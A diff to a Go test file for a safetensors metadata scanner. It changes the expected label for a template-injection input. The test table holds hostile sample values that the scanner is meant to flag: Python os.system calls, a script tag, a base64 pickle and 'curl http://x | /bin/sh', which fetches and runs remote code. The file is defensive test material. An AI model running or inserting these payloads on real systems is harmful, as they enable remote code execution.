@@ -150,7 +150,7 @@ func TestSafetensors(t *testing.T) {
 		{"code", "__import__('os').system('true')", "metadata-code"},
 		{"code with imports", "import os; os.system('true')", "metadata-code"},
 		{"markup", `<ScRiPt>alert(1)</script>`, "metadata-code"},
-		{"a template", "{{ x.__class__.__mro__ }}", "metadata-code"},
+		{"a template", "{{ x.__class__.__mro__ }}", "metadata-code template-escape"},
 		{"a pickle in base64", "gASVBAAAAAAAAAB9lC4=", "metadata-code"},
 		{"a shell", "curl http://x | /bin/sh", "metadata-code"},
 	} {
